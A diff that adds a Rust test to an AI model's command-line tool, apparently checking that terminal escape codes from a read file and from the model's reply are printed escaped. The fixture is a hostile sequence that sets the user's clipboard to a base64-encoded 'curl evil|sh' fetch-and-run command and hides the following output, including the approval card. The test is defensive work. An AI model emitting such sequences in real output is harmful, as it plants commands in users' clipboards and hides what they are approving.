@@ -1495,6 +1495,40 @@ async fn a_card_for_a_post_says_it_carries_what_an_earlier_step_read() {
     assert!(stderr.contains("approval: rejected"), "{stderr}");
 }
 
+/// Thirtieth review of issue 38: what a file (or page) and the model said reached the
+/// terminal raw: OSC 52 set the clipboard, SGR 8 hid every line after it (the card too).
+#[tokio::test]
+async fn metnos_ask_spells_terminal_escapes_from_the_world_and_the_model() {
+    let s = stack_with(&[("METNOS_TURNS__CLI_LEVEL", "Full")], true).await;
+    let osc = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[8m";
+    std::fs::write(s.home().join("page.txt"), format!("hello {osc} world")).unwrap();
+    s.fake
+        .push(tool_calls(&[("fs_read", json!({"path": "~/page.txt"}))]));
+    s.fake.push(Reply::Text(format!(
+        "it says hello \u{1b}[1A\u{1b}[2K{osc}"
+    )));
+    let output = s
+        .run_with_input(&["ask", "read ~/page.txt", "--language", "en"], b"")
+        .await;
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{stderr}");
+    for (name, text) in [("stdout", &stdout), ("stderr", &stderr)] {
+        assert!(
+            !text.contains('\u{1b}') && !text.contains('\u{7}'),
+            "{name}: {text:?}"
+        );
+    }
+    assert!(
+        stdout.contains(r"it says hello \x1b[1A\x1b[2K\x1b]52;c;"),
+        "{stdout:?}"
+    );
+    assert!(
+        stderr.contains(r"hello \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8m"),
+        "{stderr:?}"
+    );
+}
+
 #[tokio::test]
 async fn metnos_ask_shows_the_steps_takes_y_from_a_pipe_and_prints_the_answer() {
     // The CLI's own level (turns.cli_level), Supervised as by default: cards are asked.
